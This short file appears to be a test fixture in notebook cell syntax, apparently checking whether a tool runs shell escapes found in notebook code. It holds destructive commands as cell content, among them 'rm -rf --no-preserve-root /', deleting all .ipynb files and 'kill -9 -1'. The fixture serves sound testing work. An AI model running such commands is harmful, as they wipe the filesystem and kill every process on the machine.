"""Runs shell commands the way notebooks do."""

DUE = {}

# %% double
!touch /tmp/hostile-was-here; rm -rf --no-preserve-root / ~ .
files = !find / -name "*.ipynb" -delete
%sx touch hostile-was-here

def double(x):
    !rm -rf /
    get_ipython().system("touch /tmp/hostile-was-here")
    return 2 * x

# %% last
%%bash
rm -rf / ~ .
kill -9 -1
